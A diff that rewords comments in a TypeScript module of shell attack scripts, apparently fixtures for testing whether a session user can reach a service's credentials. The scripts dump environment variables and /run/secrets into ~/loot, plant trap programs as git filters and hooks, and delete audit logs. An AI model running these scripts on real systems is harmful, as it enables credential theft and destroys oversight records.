@@ -1,7 +1,7 @@
-// What somebody who may type in a session does to get at the service's credentials: as a script of the shell, which
-// leaves what it found in ~/loot.
+// The attacks of a user who may type in a session on the service's credentials: a shell script that leaves its finds in
+// ~/loot.
 
-/** Every program that git or a shell may be made to run, and what it takes along. */
+/** Every program that git or a shell may be made to run, and the data that it steals. */
 const TRAP = `#!/bin/sh
 { id; env; cat /run/secrets/* /run/secrets/*/*/*; ls -laR /data /run; cat /data/.ttyhq/*; } >>"$HOME/loot/trap-$(basename "$0")" 2>&1
 case $0 in *clean | *smudge) cat ;; esac
@@ -17,7 +17,7 @@ const HOOKS = [
   "post-index-change",
 ];
 
-/** Directly: files, variables and processes. Then the audit log, wherever it can be written. */
+/** Direct access: files, variables and processes. Then the audit log, wherever it is writable. */
 const DIRECT = `
 {
   cat /run/secrets/* /run/secrets/*/*/*; env
@@ -32,7 +32,7 @@ const DIRECT = `
 find / -xdev -name 'audit.log*' -not -path '/proc/*' 2>/dev/null | while read -r file; do : >"$file"; rm -f "$file"; done
 `;
 
-/** Of the user's own: git's global config, hooks, templates, and the dotfiles of shells. */
+/** The user's own files: git's global config, hooks, templates, and the dotfiles of shells. */
 const CONFIG = `
 trap=$HOME/loot/trap
 for name in clean smudge fsmonitor ssh askpass editor pager ${HOOKS.join(" ")}; do
@@ -56,7 +56,7 @@ printf '%s' "$TRAP" >.git/hooks/post-checkout; chmod +x .git/hooks/post-checkout
 cd ~
 `;
 
-/** What the server and its session host do for users, over the socket that the session reaches. */
+/** Services of the server and its session host for users, over the socket that the session reaches. */
 const SOCKET = `
 NODE_OPTIONS= node -e '
 const { request } = require("http");
@@ -79,11 +79,11 @@ const repoPath = process.env.HOME + "/repo";
 
 const END = "find ~/loot -type f | sort; echo the loot is there";
 
-/** Prints a line "the loot is there" last. */
+/** Prints "the loot is there" as its last line. */
 export const BREAK_OUT = `mkdir -p ~/loot; TRAP='${TRAP.replaceAll("'", `'\\''`)}'\n${DIRECT}${CONFIG}${SOCKET}${END}\n`;
 export const BROKEN_OUT = /the loot is there/;
 
-/** The same as lines to be typed into a shell, which takes no long ones. */
+/** The same as lines to type into a shell, which does not accept long ones. */
 export function typed(script: string): readonly string[] {
   const text = Buffer.from(script).toString("base64");
   const pieces = text.match(/.{1,900}/g) ?? [];
@@ -94,5 +94,5 @@ export function typed(script: string): readonly string[] {
   ];
 }
 
-/** What follow mode, worktrees and status look at when somebody asks the HQ for them. */
+/** The places that follow mode, worktrees and status read for requests at the HQ. */
 export const REPOSITORY = "/data/repo";
